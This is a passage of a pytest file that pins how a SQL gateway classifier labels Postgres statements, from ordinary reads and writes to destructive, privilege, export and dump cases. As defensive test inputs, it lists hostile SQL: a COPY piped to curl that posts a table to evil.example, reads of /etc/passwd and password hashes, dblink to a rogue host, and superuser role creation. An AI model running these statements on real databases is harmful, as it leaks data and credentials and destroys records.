"""The classifier's contract, as a table: SQL in, categories out.

Read a row as "this statement must be classified exactly as these categories".
Rows marked ``subset`` only require the listed categories to be present (used where
extra categories are incidental, e.g. ``read`` next to ``admin``). Groups follow
the issue: ordinary work first (it must stay allowed), then each category and each
evasion the classifier has to see through.

The default-pack *action* for each row is asserted by the rules engine's own table;
this file pins the categories the rules match on.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

import pytest

from dbgate.policy.classify import classify, clear_cache
from dbgate.policy.model import DDL, ESC, A, C, Category, D, E, L, O, P, R, W, X


def row(sql: str, *cats: Category, subset: bool = False, id: str | None = None) -> Any:
    return pytest.param(sql, frozenset(cats), subset, id=id or sql[:60])


# --------------------------------------------------------------------------------------
# Ordinary work: must stay plain read / write / control
# --------------------------------------------------------------------------------------
PGBENCH = [
    row("SELECT abalance FROM pgbench_accounts WHERE aid = $1;", R),
    row("UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;", W),
    row("UPDATE pgbench_tellers SET tbalance = tbalance + $1 WHERE tid = $2;", W),
    row("UPDATE pgbench_branches SET bbalance = bbalance + $1 WHERE bid = $2;", W),
    row(
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) "
        "VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP);",
        W,
    ),
    row("BEGIN", C),
    row("END", C),
    row("BEGIN; SELECT abalance FROM pgbench_accounts WHERE aid = 7; END;", C, R),
    row("SELECT abalance FROM pgbench_accounts WHERE aid = 42", R, id="pgbench-literal"),
]

DRIVERS = [
    row("select current_schema()", R),
    row("SELECT pg_catalog.version()", R),
    row("select version()", R),
    row("show standard_conforming_strings", C),
    row("SHOW transaction isolation level", C),
    row("SHOW ALL", C),
    row("select current_setting('server_version_num')", R),
    row("SELECT current_database(), current_user, session_user", R),
    row("select pg_backend_pid()", R),
    row("SELECT 1", R),
    row("SELECT NULL", R),
    row("", C, id="empty-query"),
    row(";", C, id="semicolon-only"),
    row("-- just a comment", C, id="comment-only"),
    row(
        "SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class JOIN pg_catalog.pg_namespace "
        "ON pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace "
        "WHERE pg_catalog.pg_class.relname = $1 AND pg_catalog.pg_class.relkind = ANY "
        "(ARRAY['r', 'p', 'f', 'v', 'm']) AND pg_catalog.pg_table_is_visible(pg_catalog.pg_class.oid) "
        "AND pg_catalog.pg_namespace.nspname != 'pg_catalog'",
        R,
        id="sqlalchemy-has-table",
    ),
    row(
        "SELECT c.relname FROM pg_class c WHERE has_table_privilege(c.oid, 'SELECT')",
        R,
        id="has_table_privilege",
    ),
    row(
        "SELECT t.oid, typarray FROM pg_type t JOIN pg_namespace ns ON typnamespace = ns.oid "
        "WHERE typname = 'hstore'",
        R,
        id="psycopg2-hstore-lookup",
    ),
    row(
        "SELECT typname AS name, oid, typarray AS array_oid, oid::regtype::text AS regtype, "
        "typdelim AS delimiter FROM pg_type t WHERE t.oid = to_regtype($1) ORDER BY t.oid",
        R,
        id="psycopg3-typeinfo",
    ),
    row(
        "SELECT t.typname AS name, t.oid AS oid, t.typarray AS array_oid, "
        "t.oid::regtype::text AS regtype, r.rngsubtype AS subtype_oid FROM pg_type t "
        "JOIN pg_range r ON t.oid = r.rngtypid WHERE t.oid = to_regtype($1)",
        R,
        id="psycopg3-rangeinfo",
    ),
    row(
        "SELECT table_name, column_name, data_type FROM information_schema.columns "
        "WHERE table_schema = 'public' AND table_name = 'orders' ORDER BY ordinal_position",
        R,
        id="jdbc-information-schema-columns",
    ),
    row(
        "SELECT * FROM information_schema.tables WHERE table_schema NOT IN "
        "('pg_catalog', 'information_schema')",
        R,
        id="information-schema-tables",
    ),
    row("SELECT * FROM information_schema.tables", R, id="catalog-views-are-not-dumps"),
    row("SELECT * FROM pg_catalog.pg_namespace", R),
    row("SELECT oid, typname FROM pg_type", R),
    row("SELECT * FROM pg_settings WHERE name = 'work_mem'", R),
    row("SELECT * FROM pg_stat_activity", R),
    row(
        "SELECT NULL AS TABLE_CAT, n.nspname AS TABLE_SCHEM, c.relname AS TABLE_NAME, "
        "CASE n.nspname ~ '^pg_' OR n.nspname = 'information_schema' WHEN true THEN 'SYSTEM' "
        "ELSE 'USER' END AS TABLE_TYPE, d.description AS REMARKS FROM pg_catalog.pg_namespace n, "
        "pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_description d ON (c.oid = d.objoid AND "
        "d.objsubid = 0 AND d.classoid = 'pg_class'::regclass) WHERE c.relnamespace = n.oid "
        "AND c.relname LIKE 'orders' ORDER BY TABLE_TYPE, TABLE_SCHEM, TABLE_NAME",
        R,
        id="jdbc-gettables",
    ),
    row(
        "SELECT a.attname, format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid), "
        "a.attnotnull, col_description(a.attrelid, a.attnum) FROM pg_attribute a "
        "LEFT JOIN pg_attrdef d ON a.attrelid = d.adrelid AND a.attnum = d.adnum "
        "WHERE a.attrelid = 'orders'::regclass AND a.attnum > 0 AND NOT a.attisdropped",
        R,
        id="rails-columns",
    ),
    row(
        "SELECT ct.conname, pg_get_constraintdef(ct.oid) FROM pg_constraint ct "
        "WHERE ct.conrelid = $1",
        R,
    ),
    row("SELECT pg_get_indexdef(indexrelid) FROM pg_index WHERE indrelid = $1", R),
    row("select obj_description('orders'::regclass, 'pg_class')", R),
    row(
        "SELECT n.nspname FROM pg_namespace n WHERE has_schema_privilege(n.oid, 'USAGE')",
        R,
    ),
    row("SELECT pg_size_pretty(pg_total_relation_size('orders'))", R),
    row(
        "SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c "
        "LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace "
        "WHERE c.relname OPERATOR(pg_catalog.~) '^(orders)$' COLLATE pg_catalog.default "
        "AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3",
        R,
        id="psql-describe",
    ),
    row(
        'SELECT n.nspname as "Schema", c.relname as "Name", CASE c.relkind WHEN \'r\' '
        "THEN 'table' WHEN 'v' THEN 'view' END as \"Type\", "
        'pg_catalog.pg_get_userbyid(c.relowner) as "Owner" FROM pg_catalog.pg_class c '
        "LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace "
        "LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam "
        "WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' "
        "AND n.nspname !~ '^pg_toast' AND n.nspname <> 'information_schema' "
        "AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2",
        R,
        id="psql-dt",
    ),
    row("SET client_min_messages TO 'warning'", C, id="rails-connect"),
    row("SET intervalstyle = iso_8601", C),
    row("SHOW max_identifier_length", C),
    row("SET application_name = 'PostgreSQL JDBC Driver'", C),
    row(
        "SELECT i.relname FROM pg_index x JOIN pg_class i ON i.oid = x.indexrelid "
        "WHERE pg_get_userbyid(i.relowner) = current_user",
        R,
    ),
    row(
        "SELECT unnest(current_schemas(false)), pg_is_in_recovery(), txid_current()",
        R,
    ),
    row("SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *; RESET ALL;", R, C),
    row("SET application_name = 'agent'", C),
    row("SET client_encoding TO 'UTF8'", C),
    row("SET NAMES 'UTF8'", C),
    row("SET DateStyle = 'ISO'", C),
    row("SET extra_float_digits = 3", C),
    row("SET TIME ZONE 'UTC'", C),
    row("SET statement_timeout = '5s'", C),
    row("SET LOCAL lock_timeout = 1000", C),
    row("SET SESSION work_mem = '64MB'", C),
    row("SET search_path = public", C),
    row("SET search_path TO app, public", C, id="search-path-without-pg_catalog-is-safe"),
    row("SET search_path = pg_catalog, public", C),
    row("SET search_path = pg_temp, pg_catalog, public", C, id="pg_temp-first-ok"),
    row("SET standard_conforming_strings = on", C),
    row("SET default_transaction_read_only = on", C),
    row("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", C),
    row("SET TRANSACTION READ ONLY", C),
    row("BEGIN ISOLATION LEVEL REPEATABLE READ READ ONLY", C),
    row("START TRANSACTION", C),
    row("COMMIT", C),
    row("ROLLBACK", C),
    row("SAVEPOINT sp1", C),
    row("RELEASE SAVEPOINT sp1", C),
    row("ROLLBACK TO SAVEPOINT sp1", C),
    row("RESET statement_timeout", C),
    row("RESET ALL", C),
    row("DISCARD ALL", C),
    row("DEALLOCATE ALL", C),
    row("DEALLOCATE stmt_1", C),
    row("LISTEN jobs", C),
    row("UNLISTEN *", C),
    row("SET CONSTRAINTS ALL DEFERRED", C),
    row("CLOSE my_cursor", C),
    row("FETCH 100 FROM my_cursor", R),
    row("MOVE FORWARD 5 IN my_cursor", C),
    row("ANALYZE orders", C),
    row("SELECT set_config('application_name', 'x', false)", R, C),
    row("SELECT set_config('statement_timeout', '10s', true)", R, C),
    row("SELECT pg_sleep(0.1)", R, id="pg_sleep-is-harmless"),
    row("SELECT pg_try_advisory_lock(42)", R, L, id="session-advisory-lock"),
    row("SELECT pg_advisory_xact_lock(42)", R, id="transaction-advisory-lock"),
    row("SELECT pg_advisory_unlock_all()", R),
    row("SELECT now(), clock_timestamp(), random(), gen_random_uuid()", R),
]

BI = [
    row("SELECT status, count(*), sum(total) FROM orders GROUP BY status", R),
    row("SELECT count(*) FROM customers", R),
    row("SELECT max(created_at), min(created_at) FROM orders", R),
    row("SELECT avg(total)::numeric(10,2) FROM orders WHERE status = 'paid'", R),
    row(
        "SELECT date_trunc('month', created_at) AS m, count(*) FROM orders GROUP BY 1 ORDER BY 1",
        R,
    ),
    row(
        "SELECT c.id, c.full_name, sum(o.total) FROM customers c JOIN orders o "
        "ON o.customer_id = c.id WHERE c.id = 17 GROUP BY c.id, c.full_name",
        R,
    ),
    row("SELECT * FROM orders WHERE customer_id = $1 ORDER BY created_at DESC LIMIT 20", R),
    row("SELECT * FROM orders ORDER BY created_at DESC LIMIT 100", R),
    row("SELECT * FROM orders LIMIT 1000", R, id="limit-at-threshold"),
    row("SELECT * FROM orders FETCH FIRST 10 ROWS ONLY", R),
    row("SELECT * FROM orders OFFSET 10 LIMIT 10", R),
    row("SELECT id FROM orders WHERE status = 'open' FOR UPDATE SKIP LOCKED LIMIT 1", R),
    # Row locks need proof (a unique key, or a small LIMIT): without a key catalog the
    # email is not known to be unique (test_bounds_table has the proven case).
    row("SELECT * FROM customers WHERE email = 'a@b.c' FOR SHARE", R, L),
    row("SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders", R),
    row("SELECT count(DISTINCT customer_id) FILTER (WHERE total > 10) FROM orders", R),
    row(
        "SELECT status, rank() OVER (ORDER BY n DESC) FROM "
        "(SELECT status, count(*) n FROM orders GROUP BY status) s",
        R,
    ),
    row(
        "WITH totals AS (SELECT customer_id, sum(total) t FROM orders GROUP BY customer_id) "
        "SELECT * FROM totals ORDER BY t DESC LIMIT 10",
        R,
    ),
    row(
        "WITH RECURSIVE n(i) AS (VALUES (1) UNION ALL SELECT i + 1 FROM n WHERE i < 10) "
        "SELECT * FROM n",
        R,
    ),
    row("SELECT * FROM generate_series(1, 10) g", R),
    row("VALUES (1, 'a'), (2, 'b')", R),
    row("SELECT * FROM (VALUES (1), (2)) v(x)", R),
    row("SELECT 1 UNION SELECT 2", R),
    row("SELECT id FROM orders WHERE id = 1 UNION ALL SELECT id FROM orders WHERE id = 2", R),
    row("SELECT EXISTS (SELECT 1 FROM orders WHERE id = 5)", R),
    row("SELECT * FROM orders WHERE id IN (SELECT order_id FROM payments WHERE amount > 100)", R),
    row("SELECT * FROM orders o WHERE o.total > (SELECT avg(total) FROM orders)", R),
    row(
        "SELECT jsonb_build_object('id', id, 'total', total) FROM orders WHERE id = $1",
        R,
    ),
    row("SELECT to_char(created_at, 'YYYY-MM'), lower(status) FROM orders WHERE id = 3", R),
    row(
        "SELECT extract(year FROM created_at), substring(status FROM 1 FOR 3), "
        "trim(both ' ' FROM status), created_at AT TIME ZONE 'UTC' FROM orders WHERE id = 1",
        R,
        id="sql-syntax-functions",
    ),
    row("SELECT coalesce(nullif(status, ''), 'none'), greatest(1, 2) FROM orders WHERE id = 1", R),
    row("SELECT count(*) FROM orders HAVING count(*) > 1", R),
    row("SELECT * FROM orders TABLESAMPLE SYSTEM (1) LIMIT 10", R),
    row("EXPLAIN SELECT * FROM orders", R, id="explain-only-plans"),
    row("EXPLAIN (FORMAT JSON, COSTS) DELETE FROM orders", R, id="explain-delete-only-plans"),
    row("EXPLAIN (ANALYZE false) DELETE FROM orders", R, id="explain-analyze-false"),
    row("EXPLAIN ANALYZE SELECT count(*) FROM orders", R),
    row("SELECT nextval('orders_id_seq')", R, W, id="nextval-is-a-write"),
    row("SELECT currval('orders_id_seq'), lastval()", R),
    row("PREPARE q(int) AS SELECT * FROM orders WHERE id = $1", C, R),
    row("DECLARE c CURSOR FOR SELECT * FROM orders WHERE customer_id = 3", R),
    row(
        "SELECT * FROM orders o, LATERAL (SELECT * FROM payments p WHERE p.order_id = o.id) x "
        "WHERE o.id = 7",
        R,
    ),
]

WRITES = [
    row("INSERT INTO orders (customer_id, total, status) VALUES (1, 9.99, 'open')", W),
    row("INSERT INTO orders (customer_id, total) VALUES ($1, $2) RETURNING id", W),
    row("INSERT INTO orders VALUES (DEFAULT, 1, 2, 'x', now()), (DEFAULT, 1, 3, 'y', now())", W),
    row(
        "INSERT INTO orders (id, status) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE "
        "SET status = EXCLUDED.status",
        W,
    ),
    row("INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING", W),
    row("INSERT INTO orders (id) VALUES (nextval('orders_id_seq'))", W),
    row("UPDATE orders SET status = 'shipped' WHERE id = 7", W),
    row("UPDATE orders SET status = $1 WHERE id = ANY($2)", W),
    row(
        "UPDATE orders o SET total = p.amount FROM payments p WHERE p.order_id = o.id AND o.id = 1",
        W,
        R,
    ),
    row("UPDATE orders SET status = 'x' WHERE id = 1 RETURNING *", W),
    row("DELETE FROM orders WHERE id = 7", W),
    row("DELETE FROM orders WHERE created_at < now() - interval '1 year'", W),
    row("DELETE FROM orders WHERE id IN (SELECT order_id FROM payments WHERE amount = 0)", W, R),
    row("DELETE FROM orders WHERE CURRENT OF c", W),
    row("DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.id = 5", W, R),
    row(
        "UPDATE orders o SET total = 0 FROM customers c WHERE o.customer_id = c.id AND c.id = 5",
        W,
        R,
    ),
    row("INSERT INTO archive SELECT * FROM orders WHERE id = 5", W, R),
    row("COPY orders FROM STDIN", W),
    row("COPY orders (id, total) FROM STDIN WITH (FORMAT csv)", W),
    row(
        "MERGE INTO orders o USING (VALUES (1, 'paid')) v(id, status) ON o.id = v.id "
        "WHEN MATCHED THEN UPDATE SET status = v.status WHEN NOT MATCHED THEN "
        "INSERT (id, status) VALUES (v.id, v.status)",
        W,
        R,
    ),
    row("SELECT pg_notify('jobs', 'job 42 done')", R, W),
    row("NOTIFY jobs, 'hello'", W),
    row("LOCK TABLE orders IN SHARE MODE", L),
    row("LOCK TABLE orders", L, id="lock-defaults-to-access-exclusive"),
    row("LOCK orders, payments IN ROW SHARE MODE NOWAIT", R),
    row("LOCK orders IN EXCLUSIVE MODE", L),
    # ACCESS SHARE (every SELECT's lock) conflicts only with ACCESS EXCLUSIVE
    row("LOCK TABLE public.customers, public.orders IN ACCESS SHARE MODE", R),
    row("REFRESH MATERIALIZED VIEW order_stats", W),
    # WITH NO DATA discards every row: the view is unreadable until refreshed again
    row("REFRESH MATERIALIZED VIEW order_stats WITH NO DATA", W, X),
    row("REFRESH MATERIALIZED VIEW CONCURRENTLY order_stats WITH DATA", W),
    # ORM unit-of-work statements (SQLAlchemy 2, Django, Hibernate via JDBC)
    row("UPDATE orders SET status=$1::VARCHAR WHERE orders.id = $2::INTEGER", W),
    row("DELETE FROM orders WHERE orders.id = $1::INTEGER", W),
    row(
        "INSERT INTO orders (customer_id, total) SELECT p0::INTEGER, p1::NUMERIC FROM "
        "(VALUES ($1::INTEGER, $2::NUMERIC, 0), ($3::INTEGER, $4::NUMERIC, 1)) "
        "AS imp_sen(p0, p1, sen_counter) ORDER BY sen_counter RETURNING orders.id, orders.id AS id__1",
        W,
        R,
        id="sqlalchemy-insertmanyvalues",
    ),
    row('UPDATE "app_order" SET "status" = \'x\' WHERE "app_order"."id" IN (1, 2, 3)', W),
    row(
        'SELECT "app_order"."id", "app_order"."status" FROM "app_order" '
        'WHERE "app_order"."customer_id" = 5 ORDER BY "app_order"."id" DESC LIMIT 21',
        R,
        id="django-queryset",
    ),
    row(
        "SELECT count(*) AS count_1 FROM (SELECT orders.id AS orders_id FROM orders "
        "WHERE orders.status = $1) AS anon_1",
        R,
    ),
    row(
        "SELECT orders.id, orders.total FROM orders JOIN customers "
        "ON customers.id = orders.customer_id WHERE customers.email = $1",
        R,
    ),
    row("update orders set status=$1, total=$2 where id=$3", W, id="hibernate-update"),
    row(
        "WITH upd AS (UPDATE orders SET status = 'x' WHERE id = 1 RETURNING id) SELECT * FROM upd",
        R,
        W,
        id="cte-bounded-update",
    ),
]

# --------------------------------------------------------------------------------------
# destructive
# --------------------------------------------------------------------------------------
DESTRUCTIVE = [
    row("DELETE FROM orders", X),
    row("delete from orders where true", X, id="where-true"),
    row("DELETE FROM orders WHERE 1 = 1", X, id="where-1=1"),
    row("DELETE FROM orders WHERE id = 1 OR true", X, id="where-or-true"),
    row("UPDATE customers SET email = NULL", X),
    row("UPDATE customers SET email = NULL WHERE 'a' = 'a'", X),
    row("TRUNCATE orders", X),
    row("TRUNCATE TABLE orders, payments RESTART IDENTITY CASCADE", X),
    row("DROP TABLE orders", DDL, X),
    row("DROP TABLE IF EXISTS a, b CASCADE", DDL, X),
    row("DROP SCHEMA app CASCADE", DDL, X),
    row("DROP DATABASE demo", DDL, X),
    row("DROP INDEX orders_status_idx", DDL, X),
    row("DROP VIEW v", DDL, X),
    row("DROP FUNCTION f(int)", DDL, X),
    row("ALTER TABLE customers DROP COLUMN ssn", DDL, X),
    row(
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
        X,
        D,
        R,
        id="cte-delete-all",
    ),
    row(
        "WITH d AS (DELETE FROM orders) SELECT 1",
        X,
        R,
        id="cte-delete-no-returning",
    ),
    row("EXPLAIN ANALYZE DELETE FROM orders", X, id="explain-analyze-runs-it"),
    row("EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0", X),
    row("EXPLAIN (ANALYZE true) DELETE FROM orders", X),
    row("MERGE INTO orders o USING payments p ON o.id = p.order_id WHEN MATCHED THEN DELETE", X, R),
    row(
        "MERGE INTO orders o USING payments p ON true WHEN MATCHED THEN UPDATE SET total = 0", X, R
    ),
    row("SELECT lo_unlink(1234)", R, X),
    row("UPDATE orders SET total = 0 RETURNING *", X, D),
    row("DELETE FROM orders WHERE id <> 5", X),
    row("DELETE FROM orders WHERE id NOT IN (1, 2, 3)", X),
    row("UPDATE customers SET email = 'x' WHERE email IS NOT NULL", X),
    row("DELETE FROM orders WHERE customer_id IN (SELECT id FROM customers)", X, R),
    row("DELETE FROM orders o USING customers c WHERE o.customer_id = c.id", X, R),
    row(
        "DELETE FROM orders USING customers c WHERE c.id = 5", X, R, id="using-narrows-wrong-table"
    ),
    row("UPDATE orders SET total = 0 FROM customers c WHERE c.id = 5", X, R),
]

# --------------------------------------------------------------------------------------
# ddl
# --------------------------------------------------------------------------------------
DDL_ROWS = [
    row("CREATE TABLE t (id int primary key, v text)", DDL),
    row("CREATE TEMP TABLE t (id int)", DDL),
    row("CREATE TABLE t (id int DEFAULT nextval('s'), ts timestamptz DEFAULT now())", DDL),
    row("ALTER TABLE orders ADD COLUMN note text", DDL),
    row("ALTER TABLE orders RENAME COLUMN note TO notes", DDL),
    row("ALTER TABLE orders RENAME TO orders_old", DDL),
    row("CREATE INDEX CONCURRENTLY ON orders (status)", DDL),
    row("CREATE VIEW v AS SELECT * FROM orders", DDL),
    row("CREATE OR REPLACE VIEW v AS SELECT id FROM orders", DDL),
    row("CREATE MATERIALIZED VIEW mv AS SELECT status FROM orders WITH NO DATA", DDL),
    row("CREATE SEQUENCE s", DDL),
    row("ALTER SEQUENCE s RESTART WITH 1", DDL),
    row("SELECT setval('s', 1)", R, DDL, id="setval-like-alter-sequence"),
    row("CREATE SCHEMA app", DDL),
    row("CREATE TYPE mood AS ENUM ('sad', 'ok')", DDL),
    row("CREATE DOMAIN posint AS int CHECK (VALUE > 0)", DDL),
    row("COMMENT ON TABLE orders IS 'orders'", DDL),
    row("CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()", DDL),
    row("CREATE DATABASE scratch", DDL),
    row("ALTER TABLE orders ALTER COLUMN total TYPE numeric(12,2)", DDL),
    row("CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING", DDL),
    row("CREATE TABLE t2 AS SELECT 1 AS x", DDL, W, R),
    row("CREATE TABLE t2 AS SELECT * FROM orders WHERE id = 1", DDL, W, R),
    row(
        "CREATE VIEW leak AS SELECT pg_read_file('/etc/passwd')",
        DDL,
        A,
        id="view-over-admin-function",
    ),
]

# --------------------------------------------------------------------------------------
# privilege
# --------------------------------------------------------------------------------------
PRIVILEGE = [
    row("GRANT SELECT ON orders TO analyst", P),
    row("GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO agent", P),
    row("REVOKE INSERT ON orders FROM PUBLIC", P),
    row("GRANT admin TO agent", P),
    row("REVOKE admin FROM agent", P),
    row("CREATE ROLE evil SUPERUSER LOGIN", P),
    row("CREATE USER bob PASSWORD 'x'", P),
    row("ALTER ROLE agent SUPERUSER", P),
    row("ALTER USER agent WITH PASSWORD 'x'", P),
    row("DROP ROLE bob", P, X),
    row("DROP USER IF EXISTS bob", P, X),
    row("ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO agent", P),
    row("SET ROLE postgres", P),
    row("SET ROLE NONE", P),
    row("SET LOCAL ROLE admin", P),
    row("RESET ROLE", P),
    row("SET SESSION AUTHORIZATION postgres", P),
    row("SET SESSION AUTHORIZATION DEFAULT", P),
    row("RESET SESSION AUTHORIZATION", P),
    row("SELECT set_config('role', 'postgres', false)", R, P),
    row("SELECT set_config('ROLE', 'postgres', false)", R, P, id="set_config-name-case"),
    row("SELECT set_config('session_authorization', 'postgres', false)", R, P),
    row("SELECT set_config('app.tenant_id', '42', false)", R, P, id="custom-setting-rls"),
    row("SET app.tenant_id = '7'", P),
    row("ALTER TABLE orders OWNER TO agent", DDL, P),
    row("ALTER SCHEMA app OWNER TO agent", P),
    row("ALTER FUNCTION f() OWNER TO agent", P),
    row("ALTER TABLE orders DISABLE ROW LEVEL SECURITY", DDL, P),
    row("ALTER TABLE orders DISABLE TRIGGER ALL", DDL, P),
    row("CREATE POLICY p ON orders USING (true)", DDL, P),
    row("DROP POLICY p ON orders", DDL, X, P),
    row("REASSIGN OWNED BY bob TO postgres", P),
    row("CREATE SCHEMA s AUTHORIZATION bob", DDL, P),
    row("CREATE SCHEMA AUTHORIZATION CURRENT_USER", DDL),
    row("DROP OWNED BY bob", P, X),
    row("ALTER ROLE agent SET search_path = public", P, C),
    row(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'",
        DDL,
        O,
        P,
    ),
    row("ALTER FUNCTION f() SECURITY DEFINER", DDL, P),
    row("ALTER FUNCTION f() SECURITY INVOKER", DDL),
    row("SELECT * FROM pg_authid", R, A, id="credentials-catalog"),
    row("SELECT passwd FROM pg_shadow WHERE usename = 'x'", R, A),
    row("SELECT * FROM pg_catalog.pg_user_mappings", R, A),
    # credential catalogs: admin when the secret column or whole rows are read
    row("SELECT rolpassword FROM pg_authid WHERE rolname = 'x'", R, A),
    row("SELECT count(*) FROM pg_authid WHERE rolpassword LIKE 'SCRAM%'", R, A),
    row("SELECT s FROM pg_subscription s", R, A, id="credential-whole-row"),
    row("SELECT to_json(s.*) FROM pg_subscription s", R, A),
    row("SELECT (a).rolpassword FROM pg_authid a", R, A),
    row("TABLE pg_shadow", R, A),
    row("COPY pg_authid TO STDOUT", R, E, D, A),
    row("COPY pg_authid (rolname, rolpassword) TO STDOUT", R, E, D, A),
    row("CREATE VIEW v AS SELECT * FROM pg_subscription", DDL, A),
    row("SELECT query_to_xml('SELECT subconninfo FROM pg_subscription', true, false, '')", R, D, A),
    row(
        "SELECT count(*) FROM pg_subscription "
        "WHERE subdbid = (SELECT oid FROM pg_database WHERE datname = current_database())",
        R,
        id="pg-dump-counts-subscriptions",
    ),
    row("SELECT rolname FROM pg_authid WHERE oid = 10", R, id="credential-catalog-no-secret"),
]

# --------------------------------------------------------------------------------------
# export
# --------------------------------------------------------------------------------------
EXPORT = [
    row("COPY customers TO STDOUT", E, D, R),
    row("COPY customers (email, ssn) TO STDOUT WITH (FORMAT csv, HEADER)", E, D, R),
    # COPY (query) TO STDOUT is the query in another format: a bounded one is a read
    row("COPY (SELECT email FROM customers WHERE id = 1) TO STDOUT", R),
    row("COPY (SELECT email FROM customers) TO STDOUT", R, D),
    row("COPY (SELECT email FROM customers WHERE id = 1) TO '/tmp/c.csv'", E, D, R, A),
    row("COPY (SELECT email FROM customers WHERE id = 1) TO PROGRAM 'curl x'", E, D, R, A),
    row("copy customers to '/tmp/c.csv'", E, D, R, A),
    row("COPY customers TO PROGRAM 'curl -d @- https://evil.example'", E, D, R, A),
    row("SELECT lo_export(1234, '/tmp/x')", R, E, A),
    row("SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", R, E, O, subset=True),
    row("SELECT dblink_exec('host=evil', 'drop table x')", R, E, O, subset=True),
    row("SELECT dblink_connect('c', 'host=evil')", R, E, O, subset=True),
    row("SELECT public.dblink_connect('c', 'host=evil')", R, E, O, id="schema-qualified-dblink"),
    row("CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", E, DDL),
    row("CREATE USER MAPPING FOR agent SERVER evil OPTIONS (user 'u')", E, DDL),
    row("IMPORT FOREIGN SCHEMA public FROM SERVER evil INTO stage", E, DDL),
    row("CREATE FOREIGN TABLE ft (id int) SERVER evil", E, DDL),
    row("CREATE FOREIGN DATA WRAPPER w", E, DDL),
    row("SELECT pg_notify('ch', email) FROM customers WHERE id = 1", R, E),
    row(
        "SELECT pg_notify('ch', (SELECT string_agg(email, ',') FROM customers))",
        R,
        E,
        D,
        id="notify-carries-table",
    ),
    row("CREATE PUBLICATION pub FOR ALL TABLES", A, E, DDL),
    row(
        "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p",
        A,
        E,
        DDL,
    ),
    row("SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", R, E, A),
]

# --------------------------------------------------------------------------------------
# dump
# --------------------------------------------------------------------------------------
DUMP = [
    row("SELECT * FROM customers", R, D),
    row("TABLE customers", R, D),
    row("select email from customers", R, D),
    row("SELECT * FROM customers LIMIT 1001", R, D, id="limit-above-threshold"),
    row("SELECT * FROM customers LIMIT ALL", R, D),
    row("SELECT * FROM customers LIMIT NULL", R, D),
    row("SELECT * FROM customers LIMIT 10 + 5", R, D, id="computed-limit-fails-closed"),
    row("SELECT * FROM customers ORDER BY 1 FETCH FIRST 1 ROWS WITH TIES", R, D, id="with-ties"),
    row("SELECT * FROM customers WHERE true", R, D),
    row("SELECT * FROM customers WHERE 1 = 1 OR id = 1", R, D),
    row("SELECT * FROM customers c JOIN orders o ON o.customer_id = c.id", R, D),
    row("SELECT * FROM customers, orders", R, D),
    row("SELECT DISTINCT email FROM customers", R),  # one column: as GROUP BY email
    row("SELECT DISTINCT email, ssn FROM customers", R, D),
    row("SELECT email FROM customers GROUP BY email", R, id="group-by-without-aggregate"),
    row("SELECT email, ssn FROM customers GROUP BY email, ssn", R, D, id="group-by-two-keys"),
    row("SELECT array_agg(email) FROM customers", R, D, id="array_agg-collects"),
    row("SELECT string_agg(ssn, ',') FROM customers", R, D),
    row("SELECT json_agg(c) FROM customers c", R, D),
    row("SELECT jsonb_agg(c) FROM customers c", R, D),
    row("SELECT json_arrayagg(email) FROM customers", R, D),
    row("SELECT json_array(SELECT json_build_array(id, email) FROM customers WHERE id > 0)", R, D),
    row("SELECT json_array(SELECT email FROM customers)", R, D, id="json_array-of-a-query"),
    row("SELECT xmlagg(xmlelement(name e, email)) FROM customers", R, D),
    # an ordered-set aggregate returns values of its WITHIN GROUP input: one per
    # fraction, and an array of fractions is as many rows as it has elements
    row(
        "SELECT percentile_disc(ARRAY(SELECT g / 5000.0 FROM generate_series(1, 5000) g))"
        " WITHIN GROUP (ORDER BY ssn) FROM customers WHERE id > 0",
        R,
        D,
        id="percentile-of-many-fractions-collects",
    ),
    row(
        "SELECT percentile_cont('{0.1,0.9}'::float8[]) WITHIN GROUP (ORDER BY id) FROM customers",
        R,
        D,
    ),
    row("SELECT percentile_disc($1) WITHIN GROUP (ORDER BY email) FROM customers", R, D),
    # fractions written out as constants: one value each, as that many calls would give
    row(
        "SELECT percentile_cont(ARRAY[0.25, 0.5, 0.75]) WITHIN GROUP (ORDER BY total) FROM orders",
        R,
        id="percentile-of-written-fractions-reads",
    ),
    row("SELECT percentile_disc(ARRAY[0.5, id]) WITHIN GROUP (ORDER BY id) FROM customers", R, D),
    row(
        "SELECT percentile_disc(ARRAY[(SELECT 0.5)]) WITHIN GROUP (ORDER BY id) FROM customers",
        R,
        D,
    ),
    row("SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY email) FROM customers", R),
    # the same shape once its literals are masked: never served from the other's cache
